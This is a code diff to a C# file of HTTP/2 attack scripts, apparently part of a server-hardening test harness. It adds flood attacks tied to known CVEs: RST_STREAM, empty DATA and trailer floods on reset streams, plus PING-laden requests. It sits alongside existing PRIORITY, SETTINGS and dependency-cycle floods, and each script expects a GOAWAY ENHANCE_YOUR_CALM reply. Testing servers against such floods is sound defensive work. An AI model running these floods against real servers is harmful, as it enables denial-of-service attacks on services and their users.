@@ -1,4 +1,5 @@
 using System.Collections.Generic;
+using System.Linq;
 using Http2Nano.Attacks.Wire;
 
 namespace Http2Nano.Attacks.Scripts;
@@ -7,6 +8,7 @@ namespace Http2Nano.Attacks.Scripts;
 internal static class FrameFloods
 {
     private const string Calm = "GOAWAY ENHANCE_YOUR_CALM";
+    private static readonly byte[] s_reset = [.. Frame.Greeting, .. Frame.Of(Frame.Headers, Frame.EndHeaders, 1, 0x82, 0x82)];
     private static readonly byte[] s_begun = [.. Frame.Greeting, .. Frame.Post(1, "/sink")];
 
     public static IEnumerable<Attack> All =>
@@ -35,6 +37,11 @@ internal static class FrameFloods
             .. Frame.Of(Frame.Settings, 0, 0, Frame.Setting(4, 1)), .. Frame.Of(Frame.Settings, 0, 0, Frame.Setting(4, 65535))])) { End = Calm },
         new("SETTINGS acknowledgement flood", "CVE-2019-9515", Script.Flood(Frame.Greeting, Frame.Of(Frame.Settings, Frame.Ack, 0))) { End = Calm },
         new("RST_STREAM flood", "CVE-2019-9514", Script.Flood([.. Frame.Greeting, .. Frame.Get(1)], Frame.Of(Frame.Reset, 0, 1, Frame.Number(8)))) { End = Calm },
+        new("RST_STREAM flood on a stream that the server has reset", "CVE-2019-9514", Script.Flood(s_reset, Frame.Of(Frame.Reset, 0, 1, Frame.Number(8)))) { End = Calm },
+        new("empty DATA on a stream that the server has reset", "CVE-2019-9518", Script.Flood(s_reset, Frame.Of(Frame.Data, Frame.EndStream, 1))) { End = Calm },
+        new("trailers on a stream that the server has reset", "CVE-2019-9515", Script.Flood(s_reset, Frame.Of(Frame.Headers, Frame.EndHeaders | Frame.EndStream, 1, 0x82))) { End = Calm },
+        new("requests with twenty PING each", "CVE-2019-9512", Script.FloodStreams(Frame.GreetingWithWindow, stream =>
+            [.. Frame.Get(stream), .. Enumerable.Repeat(Frame.Of(Frame.Ping, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8), 20).SelectMany(ping => ping)])) { End = Calm },
         new("PRIORITY flood", "CVE-2019-9513", Script.FloodStreams(Frame.Greeting, stream => Frame.Of(Frame.Priority, 0, stream, 0, 0, 0, 0, 16))) { End = Calm },
         new("dependency cycle", "CVE-2015-8659", Script.Flood([.. Frame.Greeting, .. Frame.Get(1, "/big"), .. Frame.Get(3, "/big")], [
             .. Frame.Of(Frame.Priority, 0, 1, 0, 0, 0, 3, 16), .. Frame.Of(Frame.Priority, 0, 3, 0x80, 0, 0, 1, 16)])) { End = Calm },
